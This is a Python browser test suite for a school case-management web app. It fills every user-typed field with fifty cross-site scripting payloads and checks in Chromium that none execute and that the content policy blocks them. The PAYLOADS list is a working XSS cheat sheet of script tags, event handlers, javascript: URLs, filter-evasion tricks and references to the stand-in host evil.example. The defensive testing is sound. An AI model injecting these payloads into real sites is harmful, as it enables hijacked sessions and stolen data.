"""Script in every text that a person can type, shown by every page that shows it, in a real Chromium: nothing runs, and
the content policy has nothing to report."""

import json
import re
from itertools import cycle

import pytest

from extensions import clock
from models import (
    Account,
    Announcement,
    Case,
    CaseAgency,
    CaseAgencyVersion,
    CaseClosure,
    CaseEntry,
    CaseEntryVersion,
    CasePresenting,
    CaseType,
    CloseReason,
    Cohort,
    CohortCategory,
    FileCategory,
    Form,
    FormResponse,
    FormVersion,
    Incident,
    IncidentRemoval,
    IncidentVersion,
    InterventionGroup,
    InterventionStep,
    Meeting,
    MeetingStudent,
    MeetingType,
    MeetingVersion,
    Milestone,
    MilestoneRequest,
    MilestoneTemplate,
    Plan,
    PlanIntervention,
    PlanPoint,
    PlanReview,
    PlanVersion,
    Referral,
    SavedReport,
    School,
    StoredFile,
    StudentContact,
    Task,
    TaskNote,
    Trigger,
)
from tests import factories
from tests.access import world as worlds
from tests.access.routes import samples

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.ran=1</script>",
    "\"><img src=x onerror=window.ran=1>",
    "'><svg onload=window.ran=1>",
    "</title></textarea></script><script>window.ran=1</script>",
    "\" autofocus onfocus=window.ran=1 x=\"",
    "javascript:window.ran=1//",
    "{{constructor.constructor('window.ran=1')()}}",
    "<a href=\"javascript:window.ran=1\">x</a><style>@import '//evil.example'</style>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<details open ontoggle=window.ran=1>",
    "' onmouseover='window.ran=1' x='",
    "<body onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "<form action=javascript:window.ran=1><button>x</button></form>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<object data=\"data:text/html,<script>parent.ran=1</script>\"></object>",
    "<embed src=\"javascript:window.ran=1\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.ran=1\">",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<template><script>window.ran=1</script></template><script>window.ran=1</script>",
    "<!--><script>window.ran=1</script>-->",
    "]]><script>window.ran=1</script>",
    "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x:x onerror\x0b=window.ran=1>",
    "<a\thref=\"java\tscript:window.ran=1\" id=x>y</a>",
    "\u003cscript\u003ewindow.ran=1\u003c/script\u003e",
    "＜script＞window.ran=1＜/script＞",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "${window.ran=1}`;window.ran=1;//",
    "';window.ran=1;'", "\";window.ran=1;\"", "\\\";window.ran=1;//", "`;window.ran=1;`",
    "__proto__[ran]=1", "#{window.ran=1}", "<%= 7*7 %>", "{% import os %}{{7*7}}",
    "x\" style=\"background:url(//evil.example)\"", "<p style=\"animation-name:x\" onanimationstart=window.ran=1>",
    "<x onclick=window.ran=1 tabindex=1 autofocus>", "--!><img src=x onerror=window.ran=1>",
]  # fmt: skip


@pytest.fixture
def payloads(full):
    assert len(PAYLOADS) == 50
    return PAYLOADS if full else PAYLOADS[:8]


@pytest.fixture
def hostile(app, cast, payloads):
    """The world of the access tests with one payload in all its texts, and a row with each of the others in every list."""
    school = worlds.build(app, cast)
    app.extensions["caseward_nudge"] = lambda name="deliver": None
    School.update(name=f"Hill {payloads[0]}"[:200], student_word="Student").execute()
    for number, payload in enumerate(payloads):
        student = factories.student(payload, payload, preferred_name=payload, year_group=payload[:40], tutor_group=payload[:40],
                                    admission_number=f"X{number}", address=payload)  # fmt: skip
        StudentContact.create(student=student, name=payload, relationship=payload, phone=payload, email=payload, notes=payload)
        author = factories.account(payload, f"x{number}@school.example.org", title=payload, phone=payload)
        category = factories.category(f"{payload} {number}", guidance=payload)
        row = factories.incident(author, [(student, [category])], payload, place=payload, alerted=[cast.kay], assigned_to=cast.ada)
        IncidentVersion.create(incident=row, number=2, text=payload, author=author, reason=payload)
        Incident.update(text_version=2).where(Incident.id == row.id).execute()
        factories.action(row, author, payload, person=cast.ada)
        factories.group(f"{payload} {number}", members=[cast.oli], department=f"{payload} {number}")
        SavedReport.create(owner=cast.ada, name=payload, query="from=", is_shared=True)
        school.rows = [*getattr(school, "rows", []), (student, row, category)]
    more_work(school)
    replace_texts(school, payloads)
    replace_forms(school, payloads)
    return school


def more_work(school):
    """What the world of the access tests has not: an ended one of each, steps of an intervention group, triggers of a form."""
    cast, student = school.cast, school.student
    ended = {"ended_at": clock.now(), "ended_by": cast.ada}
    school.cancelled_task = factories.task(student, cast.gil, cast.sam, state="cancelled", **ended)
    school.held = factories.meeting(cast.sam, [student], [cast.gil], state="held", **ended)
    school.cancelled = factories.meeting(cast.sam, [student], [cast.gil], state="cancelled", **ended)
    school.ended_plan = factories.plan(student, cast.sam, state="ended", end_reason="Done", **ended)
    InterventionStep.create(group=school.intervention, text="Read")
    IncidentRemoval.create(incident=school.secret, student=school.ann, role="witness", removed_by=cast.kay, categories="", reason="Not her")
    school.declined = factories.referral(school.form, cast.rae, state="declined", reason="Not ours", decided_by=cast.ada)
    Trigger.create(kind="form", form=school.form, is_on=True, title="Look", field="f3", answer="x")
    StoredFile.update(file_category=FileCategory.select().first()).where(StoredFile.student.is_null(False)).execute()


def replace_forms(school, payloads):
    """A form that asks in every way there is, in payloads; and answers of payloads to it."""
    texts = cycle(payloads)
    types = ("long_text", "file", "one_of", "several_of", "text", "number", "date", "scale", "yes_no", "person", "student", "heading")
    asked = [{"key": f"f{number}", "type": kind, "label": next(texts), "help": next(texts)} for number, kind in enumerate(types, 1)]
    options = list(dict.fromkeys(next(texts)[:200].strip() for _ in range(4)))
    for field in asked:
        if field["type"] in ("one_of", "several_of"):
            field["options"] = options
    asked[4]["only_if"] = {"field": "f3", "is": options[0]}
    asked[7] |= {"from": 1, "to": 5}
    FormVersion.update(fields=json.dumps(asked)).where(FormVersion.form == school.form).execute()
    Trigger.update(answer=options[0]).where(Trigger.form == school.form).execute()
    for row in FormResponse.select():
        files = [file.ref for file in StoredFile.select().where(StoredFile.form_response == row)]
        said = {"f1": next(texts), "f2": files, "f3": options[0], "f4": options[:2], "f5": next(texts), "f9": True,
                "f10": {"ref": None, "name": next(texts)}, "f11": {"ref": None, "name": next(texts)}}  # fmt: skip
        FormResponse.update(answers=json.dumps(said)).where(FormResponse.id == row.id).execute()


def replace_texts(school, payloads):
    """The one incident that everything hangs on: each text of it another payload."""
    texts = cycle(payloads)
    fields = [
        (school.secret, ("text", "place")), (school.student, ("first_name", "last_name", "preferred_name", "address")),
        (school.action, ("text",)), (school.mark, ("note",)), (school.contact, ("name", "notes")),
        (school.exclusion, ("reason",)), (school.student_exclusion, ("reason",)), (school.report, ("name",)),
        (school.import_run, ("file_name",)), (school.session, ("browser",)), (school.email, ("last_error",)),
        (school.cast.counselling, ("name",)), (school.department, ("name",)), (school.secret_category, ("name", "guidance")),
    ]  # fmt: skip
    for row, names in fields:
        model = type(row)
        model.update({name: next(texts) for name in names}).where(model.id == row.id).execute()
    agency = ("agency", "person", "phone", "reference", "status", "notes")
    everywhere = {
        Case: ("title",), CaseEntry: ("text",), CaseEntryVersion: ("text", "reason"), CaseAgency: agency,
        CasePresenting: ("source", "concern", "narrative"), CaseClosure: ("outcome", "reopen_reason"),
        Announcement: ("title", "text"), Cohort: ("name",), CohortCategory: ("name",), Milestone: ("title", "description"),
        MilestoneRequest: ("note", "answer"), MilestoneTemplate: ("title", "description"),
        Task: ("title", "notes"), TaskNote: ("text",), Meeting: ("place", "agenda", "outcome", "cancel_reason"),
        MeetingStudent: ("outcome",), Plan: ("concern", "goal", "measure", "end_reason"), PlanPoint: ("note",),
        PlanIntervention: ("text", "how_often"), PlanReview: ("notes",), InterventionStep: ("text", "how_often"),
        InterventionGroup: ("name", "description", "concern", "goal", "measure"), Form: ("name", "description"),
        Referral: ("first_name", "last_name", "about", "reason"), Trigger: ("title",), MeetingType: ("name",),
        FileCategory: ("name",), IncidentRemoval: ("reason",), SavedReport: ("name",), CaseType: ("name",), CloseReason: ("name",),
    }  # fmt: skip
    for model, names in everywhere.items():
        for row in model.select(model.id):
            # most names are there once
            typed = {name: next(texts) + (f" {row.id}" if name == "name" else "") for name in names}
            model.update(typed).where(model.id == row.id).execute()
    CaseAgencyVersion.update(fields=json.dumps(dict.fromkeys(agency, next(texts)))).execute()
    said = {"agenda": next(texts), "outcome": next(texts), "students": {school.student.ref: next(texts)}}
    MeetingVersion.update(fields=json.dumps(said)).execute()
    said = json.loads(PlanVersion.get().fields) | {"goal": next(texts), "concern": next(texts), "measure": next(texts)}
    PlanVersion.update(fields=json.dumps(said)).execute()
    case_exclusion = {"reason": next(texts)}
    type(school.case_exclusion).update(case_exclusion).where(type(school.case_exclusion).id == school.case_exclusion.id).execute()
    StoredFile.update(name=f"{payloads[1]}.txt").execute()
    card = {"title": next(texts), "phone": next(texts), "booking_url": f"https://x.example/{next(texts)}"}
    Account.update(name=f"Ken {payloads[2]}"[:200], **card).where(Account.id == school.cast.ken.id).execute()


def pages(app, school, full):
    """Every page with GET for the one incident; the record pages of the others; lists with a payload as their filter."""
    unseen = re.compile(
        r"\.(csv|xlsx|ics|json)$|/files/\w{10}$|/health|/static|/sealed-log|/setup|/account/sign-in|/account/password/|/photo|/calendar/"
    )
    found = [url for _, methods, url in samples(app, school, every=True) if "GET" in methods and not unseen.search(url)]
    found += [f"/meetings/{row.ref}{page}" for row in (school.held, school.cancelled) for page in ("", "/history")]
    found += [f"/plans/{school.ended_plan.ref}", f"/plans/{school.ended_plan.ref}/history", f"/tasks/{school.cancelled_task.ref}"]
    found += [f"/responses/{row.ref}" for row in (school.stus_response, school.referral.response)]
    found += [f"/referrals/{school.declined.ref}", f"/forms/{school.form.ref}/fields/f3", f"/forms?student={school.student.ref}",
              f"/forms/{school.form.ref}/responses/new?student={school.student.ref}", "/dictionary/meeting-types",
              "/dictionary/file-categories", "/dictionary/close-reasons", "/dictionary?since=2020-01-01",
              "/tasks?list=all&state=all", "/meetings?when=all", "/plans?show=all", "/referrals?state=all"]  # fmt: skip
    for student, incident, category in school.rows if full else school.rows[:3]:
        found += [f"/students/{student.ref}", f"/incidents/{incident.ref}", f"/incidents/{incident.ref}/versions",
                  f"/admin/categories/{category.ref}", f"/students/{student.ref}/edit"]  # fmt: skip
    typed = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.ran%3D1%3E"
    members = f"/assignment/members?group={school.cast.counselling.ref}"
    found += [f"/cases/{row.ref}{page}" for row in (school.case, school.closed_case) for page in ("", "/history", members)]
    found += [f"/cases?q={typed}", f"/personnel?q={typed}", f"/cases/new?student={school.student.ref}", "/notifications"]
    found += [f"{page}{'&' if '?' in page else '?'}q={typed}&by={typed}&text={typed}&person={typed}&author={typed}" for page in (
        "/tasks?list=all", "/meetings?when=all", "/plans", "/interventions", "/forms", "/referrals", "/responses",
        f"/forms/{school.form.ref}/responses", "/case-management/dashboard", f"/students/{school.student.ref}/timeline")]  # fmt: skip
    found += [f"/search?q={typed}", f"/students?q={typed}", f"/incidents?q={typed}", f"/reports/incidents?text={typed}&student={typed}",
              f"/reports/incidents/counts?text={typed}",
              f"/admin/users?q={typed}", f"/admin/audit?person={typed}&reference={typed}", "/reports/incidents?from=",
              "/reports/incidents/counts", "/incidents",
              f"/incidents/new?student={school.student.ref}", f"/{typed}"]  # fmt: skip
    return list(dict.fromkeys(found))


def own_pages(school):
    """What a student sees of all this: their own dashboard and one milestone, and what they sent."""
    return ["/", f"/my/milestones/{school.own_milestone.ref}", "/my/calendar", "/forms", "/responses",
            f"/forms/{school.form.ref}/responses/new", f"/responses/{school.stus_response.ref}"]  # fmt: skip


def own_pages_of_a_referral_user(school):
    """What a Referral User sees of all this: the forms for them, what they sent, each of their referrals."""
    return ["/", "/forms", f"/forms/{school.form.ref}/responses/new", f"/forms/{school.open_form.ref}/responses/new", "/responses",
            "/referrals", f"/referrals/{school.referral.ref}", f"/referrals/{school.declined.ref}",
            f"/responses/{school.raes_response.ref}"]  # fmt: skip


def test_nothing_that_was_typed_runs(app, hostile, page_for, payloads, full, figure):
    ran, shown, count = [], "", 0
    visited = {"ada": pages(app, hostile, full), "stu": own_pages(hostile), "rae": own_pages_of_a_referral_user(hostile)}
    for who, urls in visited.items():
        page = page_for(who)
        page.on("dialog", lambda dialog: dialog.dismiss())
        for url in urls:
            answer = page.goto(url, wait_until="domcontentloaded")
            assert answer.status == 200 or who == "ada" and answer.status < 500, f"{who}: {url} answered {answer.status}"
            page.evaluate("() => new Promise(done => setTimeout(done, 0))")
            count += 1
            found = page.evaluate("""() => [window.ran === 1, document.querySelectorAll('[onerror],[onload],[onfocus],[ontoggle],'
                + 'script:not([src]),iframe,object,embed,base,meta[http-equiv=refresh],a[href^="javascript:"]').length]""")
            if found != [False, 0]:
                ran.append(f"{url}: ran {found[0]}, {found[1]} elements that were typed")
            shown += page.content()
    assert not ran, "\n".join(ran)
    # the pages did show them, as text
    missing = [payload for payload in payloads if escaped(payload) not in shown and payload not in shown]
    assert not missing, f"no page showed {missing}"
    figure("XSS", f"{len(payloads)} payloads in every text, {count} pages in Chromium: 0 executed, 0 reports of the content policy")


def escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_what_was_typed_does_not_run_in_what_the_script_builds(app, hostile, page_for, payloads):
    """The picker, the combobox and the preview put names into the page themselves."""
    page = page_for("ada")
    page.goto("/incidents/new")
    for letter in ("window", "script"):
        page.get_by_label("Students").fill(letter)
        page.wait_for_timeout(400)
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Enter")
        page.get_by_label("Alert", exact=True).fill(letter)
        page.wait_for_timeout(400)
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Enter")
    assert page.evaluate("window.ran") is None
    assert page.locator("[data-chosen] li").count() >= 1, "no payload was chosen: nothing was put into the page"
    assert page.evaluate("document.querySelectorAll('[onerror],[onload],iframe,object').length") == 0


def test_a_file_that_is_a_page_is_only_ever_downloaded(app, hostile, page_for):
    """HTML and SVG under an allowed name: given out as an attachment, with a policy of its own."""
    page = page_for("ada")
    answer = page.request.get(f"/incidents/{hostile.secret.ref}/files/{hostile.file.ref}")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_browser_would_have_reported_it(app, hostile, page_for):
    """The positive control: the same text put into a page unescaped is blocked by the policy, and seen by this test."""
    page = page_for("ada", tolerate=True)

    def unescape(route):
        answer = route.fetch()
        body = answer.text().replace("&lt;", "<").replace("&gt;", ">").replace("&#34;", '"').replace("&#39;", "'")
        route.fulfill(response=answer, body=body)

    page.route(f"**/incidents/{hostile.rows[0][1].ref}", unescape)
    page.goto(f"/incidents/{hostile.rows[0][1].ref}")
    page.wait_for_timeout(200)
    assert any("Content Security Policy" in problem or "policy" in problem.lower() for problem in page.problems), page.problems
    assert page.evaluate("window.ran") is None, "the content policy itself holds"
